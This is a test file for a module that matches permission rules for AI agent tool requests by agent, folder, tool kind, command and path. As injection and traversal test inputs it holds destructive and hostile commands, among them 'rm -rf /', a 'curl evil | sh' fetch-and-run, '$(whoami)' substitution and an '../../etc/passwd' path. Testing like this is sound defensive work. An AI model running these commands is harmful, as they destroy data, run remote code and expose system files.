import { describe, expect, it } from 'vitest'
import { answerByRules, matchCommand, matchPath, ruleFromDecision, ruleMatches, type PermissionRule } from '../../../main/permissions/rules'
import type { PermissionFacts } from '../../../main/permissions/normalize'

const scope = { agentId: 'agent-a', cwd: '/proj' }

function rule(over: Partial<PermissionRule> = {}): PermissionRule {
  return {
    ruleId: 'r1',
    agentId: 'agent-a',
    agentName: 'Agent A',
    cwd: '/proj',
    toolKind: 'execute',
    decision: 'allow_always',
    command: { type: 'exact', value: 'rm -rf /tmp' },
    paths: null,
    label: 'test rule',
    createdAt: 0,
    ...over,
  }
}

const facts = (over: Partial<PermissionFacts> = {}): PermissionFacts => ({ toolKind: 'execute', command: 'rm -rf /tmp', paths: [], ...over })

const offered = [
  { optionId: 'a1', name: 'Allow once', kind: 'allow_once' },
  { optionId: 'aa', name: 'Always', kind: 'allow_always' },
  { optionId: 'r1', name: 'Reject', kind: 'reject_once' },
  { optionId: 'ra', name: 'Never', kind: 'reject_always' },
]

describe('rule matching', () => {
  it('matches the exact command in the same agent, folder and kind', () => {
    expect(ruleMatches(rule(), scope, facts())).toBe(true)
    expect(ruleMatches(rule(), { ...scope, cwd: '/proj/' }, facts({ command: '  rm -rf /tmp ' }))).toBe(true)
  })

  it('does not match near misses', () => {
    expect(ruleMatches(rule(), { ...scope, cwd: '/other' }, facts())).toBe(false)
    expect(ruleMatches(rule(), { ...scope, cwd: '/proj/sub' }, facts())).toBe(false)
    expect(ruleMatches(rule(), { ...scope, agentId: 'agent-b' }, facts())).toBe(false)
    expect(ruleMatches(rule(), scope, facts({ toolKind: 'edit' }))).toBe(false)
    expect(ruleMatches(rule(), scope, facts({ toolKind: null }))).toBe(false)
    // Command prefix tricks.
    expect(ruleMatches(rule(), scope, facts({ command: 'rm -rf /' }))).toBe(false)
    expect(ruleMatches(rule({ command: { type: 'exact', value: 'rm -rf /' } }), scope, facts({ command: 'rm -rf /tmp' }))).toBe(false)
    expect(ruleMatches(rule(), scope, facts({ command: 'rm -rf /tmp; rm -rf /' }))).toBe(false)
    expect(ruleMatches(rule(), scope, facts({ command: 'rm -rf /tmp/../..' }))).toBe(false)
    // A rule with a command never covers a request without one, nor the reverse.
    expect(ruleMatches(rule(), scope, facts({ command: null }))).toBe(false)
    expect(ruleMatches(rule({ command: null }), scope, facts())).toBe(false)
  })

  it('prefix patterns match whole words and plain arguments only', () => {
    const p = { type: 'prefix' as const, value: 'npm test' }
    expect(matchCommand(p, 'npm test')).toBe(true)
    expect(matchCommand(p, 'npm test -- --watch=false')).toBe(true)
    expect(matchCommand(p, 'npm testing')).toBe(false)
    expect(matchCommand(p, 'npm test && rm -rf /')).toBe(false)
    expect(matchCommand(p, 'npm test; curl evil | sh')).toBe(false)
    expect(matchCommand(p, 'npm test $(whoami)')).toBe(false)
    expect(matchCommand(p, 'npm')).toBe(false)
    expect(matchCommand({ type: 'prefix', value: 'rm -rf /' }, 'rm -rf /tmp')).toBe(false)
  })

  it('path patterns respect segment boundaries', () => {
    expect(matchPath({ type: 'exact', value: '/proj/a.ts' }, '/proj/a.ts', '/proj')).toBe(true)
    expect(matchPath({ type: 'exact', value: '/proj/a.ts' }, 'a.ts', '/proj')).toBe(true)
    expect(matchPath({ type: 'exact', value: '/proj/a.ts' }, '/proj/a.tsx', '/proj')).toBe(false)
    expect(matchPath({ type: 'under', value: '/proj/src' }, '/proj/src/x/y.ts', '/proj')).toBe(true)
    expect(matchPath({ type: 'under', value: '/proj/src' }, '/proj/src-evil/y.ts', '/proj')).toBe(false)
    expect(matchPath({ type: 'under', value: '/proj/src' }, '/proj/src/../../etc/passwd', '/proj')).toBe(false)
  })

  it('paths: every requested path must be covered', () => {
    const r = rule({ toolKind: 'edit', command: null, paths: [{ type: 'exact', value: '/proj/a.ts' }] })
    expect(ruleMatches(r, scope, facts({ toolKind: 'edit', command: null, paths: ['/proj/a.ts'] }))).toBe(true)
    expect(ruleMatches(r, scope, facts({ toolKind: 'edit', command: null, paths: ['/proj/a.ts', '/proj/b.ts'] }))).toBe(false)
    expect(ruleMatches(r, scope, facts({ toolKind: 'edit', command: null, paths: [] }))).toBe(false)
  })
})

describe('answerByRules', () => {
  it('answers with the offered option of the same kind', () => {
    expect(answerByRules([rule()], scope, facts(), offered)).toEqual({ rule: rule(), option: offered[1] })
    const reject = rule({ ruleId: 'r2', decision: 'reject_always' })
    expect(answerByRules([reject], scope, facts(), offered)?.option.optionId).toBe('ra')
  })

  it('asks when the rule kind is not offered, and never picks an unknown kind', () => {
    expect(answerByRules([rule()], scope, facts(), offered.filter((o) => o.kind !== 'allow_always'))).toBeNull()
    const weird = [
      { optionId: 'x', name: 'Allow', kind: 'allow' },
      { optionId: 'y', name: 'Sandbox', kind: '_acme_sandbox' },
      { optionId: 'z', name: 'Once', kind: 'allow_once' },
    ]
    expect(answerByRules([rule()], scope, facts(), weird)).toBeNull()
  })

  it('a matching reject rule wins over an allow rule', () => {
    const both = [rule(), rule({ ruleId: 'r2', decision: 'reject_always' })]
    expect(answerByRules(both, scope, facts(), offered)?.option.optionId).toBe('ra')
  })

  it('answers nothing for a near miss', () => {
    expect(answerByRules([rule()], scope, facts({ command: 'rm -rf /' }), offered)).toBeNull()
  })
})

describe('ruleFromDecision', () => {
  it('remembers agent, folder, kind and the exact command', () => {
    const r = ruleFromDecision({ ruleId: 'n', scope, agentName: 'Agent A', facts: facts({ command: 'npm test' }), decision: 'allow_always', now: 5 })
    expect(r).toMatchObject({ agentId: 'agent-a', cwd: '/proj', toolKind: 'execute', command: { type: 'exact', value: 'npm test' }, paths: null, createdAt: 5 })
    expect(r!.label).toContain('npm test')
    expect(ruleMatches(r!, scope, facts({ command: 'npm test' }))).toBe(true)
    expect(ruleMatches(r!, scope, facts({ command: 'npm test && rm -rf /' }))).toBe(false)
  })

  it('a command remembered with its folder does not cover the same command elsewhere', () => {
    const r = ruleFromDecision({ ruleId: 'n', scope, agentName: 'A', facts: { toolKind: 'execute', command: 'rm -rf build', paths: ['/proj'] }, decision: 'allow_always', now: 0 })
    expect(ruleMatches(r!, scope, { toolKind: 'execute', command: 'rm -rf build', paths: ['/proj'] })).toBe(true)
    expect(ruleMatches(r!, scope, { toolKind: 'execute', command: 'rm -rf build', paths: ['/'] })).toBe(false)
    expect(ruleMatches(r!, scope, { toolKind: 'execute', command: 'rm -rf build', paths: [] })).toBe(false)
  })

  it('resolves relative paths against the folder', () => {
    const r = ruleFromDecision({ ruleId: 'n', scope, agentName: 'A', facts: { toolKind: 'edit', command: null, paths: ['src/a.ts'] }, decision: 'reject_always', now: 0 })
    expect(r!.paths).toEqual([{ type: 'exact', value: '/proj/src/a.ts' }])
  })

  it('refuses to remember a request with no kind, command or path', () => {
    expect(ruleFromDecision({ ruleId: 'n', scope, agentName: 'A', facts: { toolKind: null, command: null, paths: [] }, decision: 'allow_always', now: 0 })).toBeNull()
  })
})
